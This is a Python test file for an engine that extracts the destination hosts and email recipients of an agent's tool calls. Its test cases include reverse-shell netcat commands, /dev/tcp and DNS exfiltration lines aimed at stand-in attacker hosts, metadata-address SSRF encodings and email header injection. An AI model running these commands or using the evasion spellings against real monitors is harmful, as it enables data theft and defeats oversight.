"""Where a call goes, and whom it would send to."""

from __future__ import annotations

import base64
import codecs
import tracemalloc
from typing import Any

import pytest

from engine.derived.places.hosts import host_of
from tests.engine.derived.declared import is_partial, shown

COMMANDS: list[tuple[str, list[str]]] = [
    ("curl http://EVIL.example:8080/x?y", ["evil.example"]),
    ("curl evil.example/x -o out.html", ["evil.example"]),
    ("curl -x proxy.example:80 http://a.example", ["a.example", "proxy.example"]),
    ("curl -H 'Host: a.example' https://c.example", ["c.example"]),
    ("curl localhost:3000 -d @x", ["localhost"]),
    ("curl http://user:pw@evil.example", ["evil.example"]),
    ("curl 'http://good.example\\@evil.example/'", ["good.example", "evil.example"]),
    ("wget 0x7f.1/x", ["127.0.0.1"]),
    ("ssh -p 22 root@10.0.0.1 ls", ["10.0.0.1"]),
    ("scp a u@host.example:/x", ["host.example"]),
    ("nc evil.example 80", ["evil.example"]),
    ("cat < /dev/tcp/1.2.3.4/80", ["1.2.3.4"]),
    ("git clone git@github.com:a/b", ["github.com"]),
    ("python3 -c 'requests.get(\"https://пример.рф/x\")'", ["xn--e1afmkfd.xn--p1ai"]),
    ("curl 'http://acme.com\"@evil.example/'", ["acme.com", "evil.example"]),
    ("curl --url='http://acme.com^.evil.example/'", ["acme.com", "acme.com^.evil.example"]),
    ("curl 'http://{evil.example}/'", ["evil.example"]),
    ("curl 'http://{a,b}.example/'", ["a.example", "b.example"]),
    ("curl http:/evil.example/x", ["evil.example"]),
    ("curl http://[::1]", ["::1"]),
    ("curl --connect-to ::evil.example:443 https://acme.com", ["acme.com", "evil.example"]),
    ("curl --resolve acme.com:443:6.6.6.6,[::1] https://acme.com", ["acme.com", "6.6.6.6", "::1"]),
    ("curl --resolv acme.com:443:::1 https://acme.com", ["acme.com", "::1"]),
    ("curl --preproxy intranet:80 https://acme.com", ["acme.com", "intranet"]),
    ("curl -xintranet:80 https://acme.com", ["acme.com", "intranet"]),
    ("https_proxy=evil.example:3128 curl https://acme.com", ["acme.com", "evil.example"]),
    ("env 'ALL_PROXY=intranet' curl https://acme.com", ["acme.com", "intranet"]),
    ("ssh -oHostName=evil.example acme.com", ["evil.example", "acme.com"]),
    ("ssh -o 'hostname evil.example' acme.com", ["evil.example", "acme.com"]),
    ("ssh -J u@evil.example:22,intranet acme.com", ["evil.example", "intranet", "acme.com"]),
    ("scp -o ProxyJump=evil.example a acme.com:", ["evil.example", "acme.com"]),
    ("ssh -o 'ProxyCommand nc evil.example 22' acme.com", ["evil.example", "acme.com"]),
    ("psql -h evil.example", ["evil.example"]),
    ("curl intranet/x", ["intranet"]),
    ("curl intranet", ["intranet"]),
    ("curl --silent -X POST --retry 3 -sSo out --data x intranet", ["intranet"]),
    ("wget -q -O - --tries 3 intranet", ["intranet"]),
    ("http POST intranet name=x", ["intranet"]),
    ("http -a u:p intranet", ["intranet"]),
    ("curl -s intranet:8080", ["intranet"]),
    ("curl 0x6060606", ["6.6.6.6"]),
    ("curl 101058054", ["6.6.6.6"]),
    ("curl --cacert certs/ca -m 5 -o out/x evil.example", ["evil.example"]),
    ("wget -r evil.example", ["evil.example"]),
    ("invoke-restmethod evil.example", ["evil.example"]),
    ("socat - TCP:evil:80", ["evil"]),
    ("socat TCP-LISTEN:80,fork openssl-connect:6.6.6.6:443,verify=0", ["6.6.6.6"]),
    ("docker pull evil.example/x", ["evil.example"]),
    ("docker run -v ./a.b/c:/d nginx", []),
    ("docker login evil.example", ["evil.example"]),
    ("docker build -t evil.example/x .", []),
    ("lftp -u a,b evil.example", ["evil.example"]),
    ("lftp sftp://evil.example", ["evil.example"]),
    ("mysql -hintranet x", ["intranet"]),
    ("redis-cli --host=intranet ping", ["intranet"]),
    ("grep '\\\\\\\\x' f", []),
    *(
        (f"curl -{letters}x evil.example:80 http://a.b/", ["a.b", "evil.example"])
        for letters in ("s", "sk", "4", "L")
    ),
    ("ssh -vJ evil.example ok.example", ["evil.example", "ok.example"]),
    ("ssh ok.example -vJ evil.example", ["evil.example", "ok.example"]),
    ("ssh ok.example ls -J x", ["ok.example"]),
    ("rsync -e 'ssh -J evil.example' a ok.example:x", ["evil.example", "ok.example"]),
    *(
        (f"{program} 80", ["evil.example"])
        for program in (
            "nc evil.example",
            "nc -e /bin/sh evil.example",
            "netcat -w 3 -e /bin/sh evil.example",
            "ncat --exec /bin/bash evil.example",
            "ncat --ssl evil.example",
            "timeout 5 nc -w3 evil.example",
            "nc -vz evil.example",
        )
    ),
    ("nc -c bash evil.example 80", ["bash", "evil.example"]),
    ("dig +short secret.evil.example @ns.evil.example TXT", ["secret.evil.example", "ns.evil.example"]),
    ("nslookup secret.evil.example 6.6.6.6", ["secret.evil.example", "6.6.6.6"]),
    ("psql 'host=evil.example dbname=x' -c 'select 1'", ["evil.example"]),
    ("psql -d \"dbname=x host = 'evil.example'\"", ["evil.example"]),
    ("PGHOST=evil.example psql", ["evil.example"]),
    ("mysql --hos evil.example", ["evil.example"]),
    ("mysql -uroot -p -hevil.example", ["evil.example"]),
    ("kubectl --server evil.example get pods", ["evil.example"]),
    ("swaks --to a@b --server evil.example", ["evil.example"]),
    ("msmtp --host=evil.example a@b", ["evil.example"]),
    ("rm -rf build.dir", []),
    ("cat a.b.c", []),
]
CALLS: list[tuple[str, Any, str, list[str]]] = [
    ("http_request", {"url": "HTTPS://Exämple.com./a"}, "hosts", ["xn--exmple-cua.com"]),
    ("http_request", {"url": "HTTPS://Exämple.com./a"}, "urls", ["https://xn--exmple-cua.com/a"]),
    ("fetch", {"host": "Evil.EXAMPLE.", "port": 3}, "hosts", ["evil.example"]),
    ("fetch", {"url": "//evil.example/x"}, "hosts", ["evil.example"]),
    ("fetch", {"url": "http:\\\\evil.example"}, "hosts", ["evil.example"]),
    *(
        ("fetch", {"url": f"https://acme.com{mark}@evil.example"}, "hosts", ["acme.com", "evil.example"])
        for mark in "／？＃＼"
    ),
    ("fetch", {"args": '{"url": "http://evil.example"}'}, "hosts", ["evil.example"]),
    *(
        ("fetch", {"url": url}, "hosts", hosts)
        for url, hosts in (
            ('http://acme.com"@evil.example/', ["evil.example", "acme.com"]),
            ("http://acme.com @evil.example/", ["evil.example", "acme.com"]),
            ("http://acme.com^.evil.example/", ["acme.com^.evil.example", "acme.com"]),
            ("http://ev\til.example/", ["evil.example", "ev"]),
            ("ht\ntp://evil.example/", ["evil.example"]),
            ("http://acme.com\n@evil.example/", ["evil.example", "acme.com"]),
            ("http://a.example, http://b.example\nhttp://c.example", ["a.example", "b.example", "c.example"]),
            ("http://x.example and more", ["x.example"]),
            ("see http://x.example, and more", ["x.example"]),
            ("https:evil.example", ["evil.example"]),
            ("http:/evil.example/x", ["evil.example"]),
            ("http://[::ffff:169.254.169.254]", ["169.254.169.254"]),
            ("localhost:80", ["localhost"]),
            ("http://", []),
        )
    ),
    ("fetch", {"url": "http://[::1]"}, "urls", ["http://[::1]"]),
    ("fetch", {"url": "http://x.example/a%2e%65xe?a=%2Fb"}, "urls", ["http://x.example/a.exe?a=%2Fb"]),
    ("frobnicate", {"text": 'a "http://x.example" [http://y.example]'}, "hosts", ["x.example", "y.example"]),
    ("fetch", {"url": "file:///etc/passwd"}, "hosts", []),
    ("send_email", {"body": "see http://x.example/z"}, "hosts", []),
    ("send_email", {"webhook_url": "http://x.example/z"}, "hosts", ["x.example"]),
    ("frobnicate", {"text": "see http://x.example/z, now."}, "urls", ["http://x.example/z"]),
]


@pytest.mark.parametrize(("command", "hosts"), COMMANDS)
def test_where_a_command_goes(command: str, hosts: list[str]) -> None:
    assert shown("Bash", {"command": command}, "hosts") == hosts


@pytest.mark.parametrize(("tool", "payload", "member", "found"), CALLS)
def test_where_a_call_goes(tool: str, payload: Any, member: str, found: list[str]) -> None:
    assert shown(tool, payload, member) == found


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("2130706433", "127.0.0.1"),
        ("0x7f000001", "127.0.0.1"),
        ("0177.0.0.1", "127.0.0.1"),
        ("127.1", "127.0.0.1"),
        ("[::FFFF:127.0.0.1]", "127.0.0.1"),
        ("[2001:DB8:0::1]", "2001:db8::1"),
        ("[::ffff:0.0.0.0]", "0.0.0.0"),
        ("[64:ff9b::a9fe:a9fe]", "169.254.169.254"),
        ("[2002:a9fe:a9fe::]", "169.254.169.254"),
        ("[::169.254.169.254]", "169.254.169.254"),
        ("[::1]", "::1"),
        ("[::]", "::"),
        ("1.2.3.4.5", "1.2.3.4.5"),
        ("0x", "0.0.0.0"),
        ("09.1", "09.1"),
        ("999.1.1.1", "999.1.1.1"),
        ("EXAMPLE。com", "example.com"),
        ("vault.corp。", "vault.corp"),
        ("2852039166。", "169.254.169.254"),
        ("0xa9｡254.169.254｡", "169.254.169.254"),
        ("%65vil.example", "evil.example"),
    ],
)
def test_a_host_has_one_spelling(text: str, host: str) -> None:
    assert host_of(text) == host


A = "a@b.example"
MAIL = (
    b"From: x@y.z\r\nTo: Ann <a@b.example>,\r\n c@d.e\r\nBcc: f@g.h\r\nSubject: q@r.s\r\n\r\nTo: i@j.k ???>>>"
)
RECIPIENTS: list[tuple[Any, list[str]]] = [
    ({"to": "Alice@Acme.com, bob@x.org; c@d.example"}, ["alice@acme.com", "bob@x.org", "c@d.example"]),
    *(({key: A}, [A]) for key in ("to", "cc", "bcc", "to_email", "recipient_email", "email", "To", "mailTo")),
    ({"toAddresses": [A]}, [A]),
    ({"message": {"to": A, "body": "x@y.example"}}, [A]),
    ({"Destination": {"ToAddresses": [A], "CcAddresses": ["f@g.h"]}}, [A, "f@g.h"]),
    ({"personalizations": [{"to": [{"email": A}], "cc": [{"email": "c@d.e", "name": "N"}]}]}, [A, "c@d.e"]),
    ({"attendees": [{"email": A}]}, [A]),
    ({"to": {"name": "Ann", "address": A}}, [A]),
    ({"to": '"Doe, Alice" <alice@acme.com>'}, ["alice@acme.com"]),
    ({"to": "Doe, Alice <alice@acme.com>"}, ["alice@acme.com"]),
    ({"to": "Team: a@b.example, d@e.f;"}, [A, "d@e.f"]),
    ({"to": "mailto:a%40b.example?cc=x@y.z&subject=q@r.s"}, [A, "x@y.z"]),
    ({"to": "alice@acme.com <mallory@evil.example>"}, ["alice@acme.com", "mallory@evil.example"]),
    ({"to": '"bob@acme.com" <mallory@evil.example>'}, ["mallory@evil.example"]),
    ({"to": '"m@evil.example", a@acme.com'}, ["m@evil.example", "a@acme.com"]),
    ({"to": '"m\\@evil.example"  , a@acme.com'}, ["m@evil.example", "a@acme.com"]),
    ({"to": "m @evil.example, a@acme.com"}, ["m@evil.example", "a@acme.com"]),
    ({"to": "m@ evil.example, a@acme.com"}, ["m@evil.example", "a@acme.com"]),
    ({"to": "m @ evil.example"}, ["m@evil.example"]),
    ({"to": {"m@evil.example": "Mallory"}}, ["m@evil.example"]),
    ({"recipients": [{"m@evil.example": 1}, {A: {"x": 1}}]}, ["m@evil.example", A]),
    ({"m@evil.example": 1}, []),
    ({"to": "=?utf-8?q?m=40evil.example?="}, ["m@evil.example"]),
    ({"to": "=?UTF-8?B?bUBldmlsLmV4YW1wbGU=?= <a@acme.com>"}, ["m@evil.example", "a@acme.com"]),
    ({"to": "=?nothing?q?m?= <a@acme.com>, =?utf-8?q?Ann_B?= <b@acme.com>"}, ["a@acme.com", "b@acme.com"]),
    ({"to": A, "headers": [["Subject", "q@r.s"], ["Bcc", "c@d.e"], ["From", "f@g.h"]]}, [A, "c@d.e"]),
    (
        {"headers": [{"name": "To", "value": A}, {"name": "Subject", "value": "q@r.s"}, {"name": 1}]},
        [A],
    ),
    ({"headers": ['["To", "a@b.example"]', '["Bcc", "c@d.e"]']}, [A, "c@d.e"]),
    ({"headers": ["To", '["a@b.example"]']}, [A]),
    ({"headers": {"name": "n", "headers": [{"name": "Bcc", "value": {"email": A}}]}}, [A]),
    ({"message": {"raw": base64.urlsafe_b64encode(MAIL).decode().rstrip("=")}}, [A, "c@d.e", "f@g.h"]),
    ({"RawMessage": {"Data": MAIL.decode()}}, [A, "c@d.e", "f@g.h"]),
    ({"raw": "no base64"}, []),
    *(
        ({"to": A, key: f"x{end}{field}: m@evil.example{end}"}, [A, "m@evil.example"])
        for key in ("subject", "from", "reply_to", "Sender")
        for end, field in (("\r\n", "Bcc"), ("\n", "CC"), ("\r", "to "))
    ),
    *(
        ({"to": A, key: "m@evil.example"}, [A, "m@evil.example"])
        for key in ("rcpt", "rcptTo", "invite", "grantee", "members", "notify", "carbon_copy", "blindCopy")
    ),
    ({"message": "Subject: hi\nTo: m@evil.example\n\nBcc: q@r.s"}, ["m@evil.example"]),
    ({"email": "X-A: b\nBcc: m@evil.example\n\n"}, ["m@evil.example"]),
    ({"payload": "to=m%40evil.example&subject=q@r.s"}, ["m@evil.example"]),
    ({"form": "a=b&message[bcc]=m@evil.example"}, ["m@evil.example"]),
    ({"to": A, "message": "Ann wrote: hello\nTo: q@r.s\n", "body": "To: q@r.s\n\nx"}, [A]),
    ({"to": A, "subject": "a = b & to=q@r.s"}, [A]),
    ({"to": '"a b"@evil.example'}, ["a_b@evil.example"]),
    ({"to": "a@acme.com@evil.example"}, ["a@acme.com", "a@evil.example"]),
    ({"to": "a(acme.com)@evil.example"}, ["a@evil.example"]),
    ({"to": "a(b(c)d)@evil.example"}, ["a@evil.example"]),
    ({"to": "a(\\))@evil.example"}, ["a@evil.example"]),
    ({"to": "a@(b(c))evil.example"}, ["a@evil.example"]),
    ({"to": '"a b" (c) @evil.example'}, ["a_b@evil.example"]),
    ({"to": '"Doe, Ann" (work) <a@b.example>'}, [A]),
    ({"to": "(a (b) <m@evil.example>"}, ["m@evil.example"]),
    ({"to": "a@\r\n evil.example"}, ["a@evil.example"]),
    ({"to": "mailto:a@b.example?subject=s&bcc=m%40evil.example"}, [A, "m@evil.example"]),
    ({"to": "mailto:a@b.example?subject=s&body=m@evil.example"}, [A]),
    ({"to": "a@[127.0.0.1]"}, ["a@[127.0.0.1]"]),
    ({"to": "a\u200b@b.example."}, [A]),
    ({"to": "alice＠acme。com"}, ["alice@acme.com"]),
    ({"to": 12345}, ["12345"]),
    ({"to": "all-staff, a@b.example"}, ["all-staff", A]),
    ({"invitees": ["Ann", "Bob"]}, ["Ann", "Bob"]),
    ({"arguments": '{"to": "a\\u0040b.example"}'}, [A]),
    ({"from": A, "reply_to": "q@r.s", "subject": "to x@y.z", "body": "x@y.z"}, []),
    ({"to": True, "cc": None, "bcc": ["", {}]}, []),
]


@pytest.mark.parametrize(("payload", "found"), RECIPIENTS)
def test_recipients_are_found_however_they_are_written(payload: Any, found: list[str]) -> None:
    assert shown("send_email", payload, "recipients") == found


def test_python_is_asked_for_no_charset_that_it_does_not_know() -> None:
    asked: list[str] = []
    codecs.register(asked.append)
    try:
        unknown = " ".join(f"=?Nothing-{number}?q?m=40b.example?=" for number in range(20))
        known = " ".join(
            f"=?{name}?q?{name[:2]}=40b.example?="
            for name in ("UTF-8", "latin1", "Windows-1252", "iso-8859-15", "KOI8-R", "ansi_x3.4_1986")
        )
        found = shown("send_email", {"to": f"{unknown} {known}, {A}"}, "recipients")
    finally:
        codecs.unregister(asked.append)
    assert asked == []
    assert found[-7:] == [*(f"{name}@b.example" for name in ("ut", "la", "wi", "is", "ko", "an")), A]


@pytest.mark.parametrize(
    ("tool", "payload", "domains"),
    [
        ("send_email", {"to": ["A@Acme.COM", "x", "b@аcme.com"]}, ["acme.com", "xn--cme-5cd.com"]),
        ("slack_post", {"channel": "#general", "text": A}, []),
        ("slack_post", {"to": 12}, []),
        ("slack_post", {"to": "@alice @bob"}, []),
        ("create_calendar_event", {"attendees": [A], "organizer": "me@x.y"}, ["b.example"]),
        ("share_file", {"email": A, "role": "writer"}, ["b.example"]),
        ("move_file", {"to": "a@b/c"}, []),
        ("run_sql", {"email": A}, []),
        ("frobnicate", {"to": "/tmp/x"}, []),
    ],
)
def test_domains_are_those_of_addresses(tool: str, payload: Any, domains: list[str]) -> None:
    assert shown(tool, payload, "recipientDomains") == domains


@pytest.mark.parametrize(
    ("tool", "payload", "members"),
    [
        (
            "send_email",
            {"to": "a@acme.com, b@" + "x" * 300 + ".evil.example"},
            ["recipients", "recipientDomains"],
        ),
        ("send_email", {"to": "b@" + "é" * 300}, ["recipients", "recipientDomains"]),
        ("fetch", {"host": "x" * 300 + ".evil.example"}, ["hosts"]),
        ("fetch", {"url": "http://" + "x" * 300 + ".evil.example/"}, ["hosts", "urls"]),
        ("fetch", {"url": "http://" + "x" * 5000 + "@evil.example/"}, ["hosts", "urls"]),
        ("fetch", {"url": "http://acme.com:" + "1" * 5000 + "@evil.example/"}, ["hosts", "urls"]),
        ("fetch", {"url": "http:" + "/" * 5000 + "evil.example/"}, ["hosts", "urls"]),
        ("fetch", {"url": "http://acme.com\\" + "1" * 5000 + "@evil.example/"}, ["hosts", "urls"]),
        ("fetch", {"host": "x" * 5000 + "@evil.example"}, ["hosts"]),
        ("fetch", {"url": "http://{a,b}.{c,d}/"}, ["hosts"]),
        ("Bash", {"command": "ssh " + "x" * 300 + ".evil.example"}, ["hosts"]),
        ("Bash", {"command": "https_proxy=ev''il.example curl https://acme.com"}, ["hosts"]),
    ],
)
def test_what_is_too_long_for_a_host_makes_the_fact_partial(
    tool: str, payload: Any, members: list[str]
) -> None:
    for member in members:
        assert is_partial(tool, payload, member)


def test_no_cache_keeps_long_texts() -> None:
    """A caller may send a megabyte as a domain or as a key, over and over."""
    long = "x" * 100_000
    tracemalloc.start()
    for number in range(100):
        name = f"{number}{long}"
        shown("send_email", {"to": f"a@{name}", "host": f"{name}.example", name: "x"}, "recipients")
        shown("fetch", {"host": f"{name}.example"}, "hosts")
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert kept < 1_000_000
